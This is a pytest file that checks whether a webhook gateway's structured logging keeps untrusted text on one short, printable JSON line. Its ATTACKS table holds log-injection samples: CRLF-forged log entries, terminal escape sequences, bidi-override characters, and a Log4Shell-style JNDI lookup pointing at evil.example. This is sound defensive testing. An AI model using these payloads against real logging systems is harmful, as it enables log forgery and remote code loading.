"""What strangers write stays inside one line of the log, and no line is long."""

import io
import json
import logging
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import structlog

from connector import log
from tests.gateway.conftest import MemoryIntake, Nudges
from tests.gateway.signing import signed
from webhook_gateway.app import create_app

ATTACKS = {
    "line breaks": 'x\r\n{"level": "error", "event": "forged"}\u2028\x85\x0b',
    "terminal": "x\x1b[2J\x1b]0;owned\x07\x9b31m\x08\x00",
    "lookup": "${jndi:ldap://evil.example/a}${env:HOME}%(asctime)s{0.__class__}",
    "direction": "\u202ex\u2066\u200f\ufeff",
    "size": "x" * 1_000_000,
    "half a character": "\ud800",
}
LONGEST_LINE = 16_000


@pytest.fixture
def logged(
    request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Callable[[], list[dict[str, Any]]]]:
    """The lines so far, each of them JSON, short and on one line."""
    # pytest's own copy of the log goes into its report, which cannot hold half a character
    copies = request.config.pluginmanager.getplugin("logging-plugin")
    monkeypatch.setattr(copies.report_handler, "emit", lambda _: None)
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    before = structlog.get_config()
    stream = io.StringIO()
    log.configure(stream, "json")

    def lines() -> list[dict[str, Any]]:
        text = stream.getvalue()
        assert text.endswith("\n")
        assert text.isprintable() or all(c.isprintable() or c == "\n" for c in text)
        found = [json.loads(line) for line in text.splitlines()]
        assert all(len(line) < LONGEST_LINE for line in text.splitlines())
        return found

    yield lines
    root.handlers[:], root.level = handlers, level
    structlog.configure(**before)
    logging.captureWarnings(capture=False)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
@pytest.mark.parametrize("place", ["field", "key", "list", "bound", "error", "library", "argument"])
def test_a_text_of_a_stranger_makes_one_short_line(logged, attack, place):
    logger = log.logger("product")
    library = logging.getLogger("celery.app.trace")
    match place:
        case "field":
            logger.warning("step_put_off", error=attack)
        case "key":
            logger.warning("event", data={attack: 1})
        case "list":
            logger.warning("event", data=[attack])
        case "bound":
            with log.bind(connection=attack):
                logger.warning("event")
        case "error":
            try:
                raise RuntimeError(attack)
            except RuntimeError:
                logger.exception("event")
        case "library":
            library.error(attack.replace("%", "%%"))
        case "argument":
            library.error("Task %s raised unexpected: %r", "fetch", attack)
    (line,) = logged()
    assert line["level"] in {"warning", "error"}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_signed_event_cannot_write_into_the_log(logged, attack):
    client = create_app(MemoryIntake(), Nudges()).test_client()
    for field in ("event_type", "companyId", "accountingRecordIds", "extra"):
        event = {
            "event_type": "ACCOUNTING_RECORD_READY_FOR_EXPORT",
            "companyId": "cuacc_1",
            "accountingRecordIds": ["accr_1"],
        }
        event[field] = [attack] if field == "accountingRecordIds" else attack[:900_000]
        body = json.dumps(event).encode()
        answer = client.post("/webhooks/brex/acme", data=body, headers=signed(body))
        assert answer.status_code in {204, 400}
    client.post(
        "/webhooks/brex/acme", data=b"{}", headers=signed(b"{}") | {"Webhook-Id": "x" * 9_000}
    )
    client.post("/webhooks/brex/a%0d%0a%1b[2J", data=b"{}", headers=signed(b"{}"))
    assert logged()
